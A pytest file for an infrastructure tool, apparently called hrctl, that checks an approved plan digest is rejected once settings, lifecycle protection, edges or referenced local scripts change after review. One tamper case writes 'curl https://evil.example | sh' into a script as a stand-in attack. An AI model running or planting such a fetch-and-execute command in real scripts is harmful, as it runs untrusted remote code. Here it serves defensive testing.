"""An approval covers all that is applied: settings, lifecycle, edges and local files."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path

import pytest

from tests.ci.runner import edit, git, new_project
from tests.ci.test_tree_runs_nothing import hrctl

SCRIPT = "apiVersion: hrctl.dev/v1\nkind: Service\nmetadata: {name: job}\nspec:\n  type: WORKER\n"


@pytest.fixture
def project(tmp_path: Path, environ: dict[str, str]) -> Path:
    """An applied project with a Service that runs a script of the tree, and a change of it."""
    root = tmp_path / "project"
    new_project(root, environ)
    (root / "hrctl.yaml").write_text(
        "apiVersion: hrctl.dev/v1\nkind: Project\nmetadata: {name: acme}\n"
        "spec: {drivers: {other: {type: local, path: .hrctl/other.db}}}\n"
    )
    (root / "bin").mkdir()
    (root / "bin" / "job.sh").write_text("#!/bin/sh\necho fine\n")
    (root / "lib" / "deep").mkdir(parents=True)
    (root / "lib" / "deep" / "part.py").write_text("print('fine')\n")
    (root / "tools").mkdir()
    (root / "tools" / "real.sh").write_text("echo fine\n")
    (root / "tools" / "steps.yml").write_text("run: echo fine\n")
    for name in ("up.sh", "quoted.sh", "absolute.sh"):
        (root / "tools" / name).write_text("echo fine\n")
    (root / "lib" / "deep" / "role.yml").write_text("run: echo fine\n")
    (root / "deploy").symlink_to("tools")
    (root / "tools" / "inner").mkdir()
    (root / "tools" / "inner" / "kept").write_text("")
    (root / "inner").symlink_to("tools/inner")
    (root / "bin" / "absolute.sh").symlink_to(root / "tools" / "absolute.sh")
    (root / "bin" / "next.sh").symlink_to("../deploy/real.sh")
    (root / "job.yaml").write_text(
        f"{SCRIPT}  command: sh ../../bin/job.sh ../../bin/next.sh ../../deploy/steps.yml"
        " ../../inner/../up.sh '../../tools/quoted.sh now' ../../bin/absolute.sh --quiet\n"
        "  workingDirectory: lib/deep\n"
        "lifecycle: {protect: true}\n"
    )
    edit(root / "registry.yaml", "level: ROOT", "level: ROOT, drivers: {Service: other}")
    git(root, environ, "add", "-A")
    git(root, environ, "commit", "-qm", "A job")
    done = hrctl(root, environ, "apply", "--yes")
    assert done.returncode == 0, done.stdout
    edit(root / "job.yaml", "--quiet", "--verbose")
    git(root, environ, "commit", "-qam", "Say more")
    return root


def settings(root: Path) -> None:
    edit(root / "hrctl.yaml", "path: .hrctl/other.db", "path: .hrctl/elsewhere.db")
    (root / ".hrctl" / "other.db").rename(root / ".hrctl" / "elsewhere.db")


def script(root: Path) -> None:
    edit(root / "bin" / "job.sh", "echo fine", "curl https://evil.example | sh")


def folder(root: Path) -> None:
    edit(root / "lib" / "deep" / "part.py", "fine", "evil")


def behind_links(root: Path) -> None:
    edit(root / "tools" / "real.sh", "fine", "evil")


def yaml_of_a_command(root: Path) -> None:
    edit(root / "tools" / "steps.yml", "fine", "evil")


def another_link(root: Path) -> None:
    (root / "deploy").unlink()
    (root / "deploy").symlink_to("lib")


def manifest_below_a_folder(root: Path) -> None:
    edit(root / "lib" / "deep" / "role.yml", "fine", "evil")


def behind_a_link_and_up(root: Path) -> None:
    edit(root / "tools" / "up.sh", "fine", "evil")


def in_a_quoted_word(root: Path) -> None:
    edit(root / "tools" / "quoted.sh", "fine", "evil")


def by_an_absolute_path(root: Path) -> None:
    edit(root / "tools" / "absolute.sh", "fine", "evil")


def protection(root: Path) -> None:
    edit(root / "job.yaml", "protect: true", "protect: false")


def ignored(root: Path) -> None:
    edit(root / "job.yaml", "protect: true", "protect: true, ignore: [/spec/replicas]")


def edges(root: Path) -> None:
    edit(root / "job.yaml", "lifecycle:", "dependsOn: [Service/worker]\nlifecycle:")


@pytest.mark.parametrize(
    "alter",
    [
        settings,
        script,
        folder,
        behind_links,
        yaml_of_a_command,
        another_link,
        manifest_below_a_folder,
        behind_a_link_and_up,
        in_a_quoted_word,
        by_an_absolute_path,
        protection,
        ignored,
        edges,
    ],
)
@pytest.mark.parametrize("committed", [True, False])
def test_what_was_altered_after_the_review_is_not_applied(
    project: Path, environ: dict[str, str], alter: Callable[[Path], None], *, committed: bool
) -> None:
    digest = hrctl(project, environ, "plan", "--digest").stdout.strip()
    assert digest.startswith("sha256:")
    alter(project)
    if committed:
        git(project, environ, "commit", "-qam", "After the review")
    done = hrctl(project, environ, "apply", "--approved", digest)
    assert done.returncode == 4, done.stdout
    assert "HR284 what would be applied is not what was approved" in done.stdout


def test_an_approval_holds_while_other_files_change(project: Path, environ: dict[str, str]) -> None:
    digest = hrctl(project, environ, "plan", "--digest").stdout.strip()
    (project / "README.md").write_text("# acme\n")
    (project / "lib" / "deep" / "untracked.log").write_text("a line\n")
    edit(project / "services.yaml", "replicas: 1", "replicas: 1 # for now")
    git(project, environ, "add", "README.md", "services.yaml")
    git(project, environ, "commit", "-qm", "Other things")
    done = hrctl(project, environ, "apply", "--approved", digest)
    assert done.returncode == 0, done.stdout
    assert "1 done" in done.stdout


def test_files_of_a_merge_count_as_those_of_its_checkout(
    project: Path, environ: dict[str, str]
) -> None:
    git(project, environ, "branch", "base", "HEAD~1")
    whole = hrctl(project, environ, "plan", "--base", "base", "--digest").stdout.strip()
    git(project, environ, "checkout", "-q", "base")
    (project / "README.md").write_text("# acme\n")
    git(project, environ, "add", "README.md")
    git(project, environ, "commit", "-qm", "The base moves")
    git(project, environ, "checkout", "-q", "main")
    moved = hrctl(project, environ, "plan", "--base", "base", "--digest").stdout.strip()
    assert moved == whole


def test_protection_that_is_taken_away_is_a_change(project: Path, environ: dict[str, str]) -> None:
    assert hrctl(project, environ, "apply", "--yes").returncode == 0
    git(project, environ, "branch", "base")
    protection(project)
    git(project, environ, "commit", "-qam", "Harmless")
    for command in (("plan",), ("plan", "--base", "base")):
        done = hrctl(project, environ, *command)
        assert "Service/job" in done.stdout
        assert "lifecycle.protect is taken away" in done.stdout
        assert "Blast radius: high" in done.stdout
    done = hrctl(project, environ, "apply", "--yes")
    assert done.returncode == 0, done.stdout
    assert "No changes" in hrctl(project, environ, "plan").stdout
